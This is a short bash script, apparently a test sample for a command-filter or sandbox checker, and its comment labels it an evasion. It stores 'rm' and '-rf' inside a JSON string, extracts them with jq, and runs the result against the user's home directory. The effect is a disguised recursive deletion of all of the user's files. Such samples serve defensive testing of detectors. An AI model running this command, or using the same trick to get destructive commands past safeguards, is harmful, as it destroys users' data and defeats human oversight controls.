#!/bin/bash
# Evasion: the command name comes out of a JSON document through jq
set -u
conf='{"cleanup":{"tool":"rm","flags":"-rf"}}'
tool=$(jq -r .cleanup.tool <<<"$conf")
flags=$(jq -r .cleanup.flags <<<"$conf")
"$tool" $flags -- "$HOME"
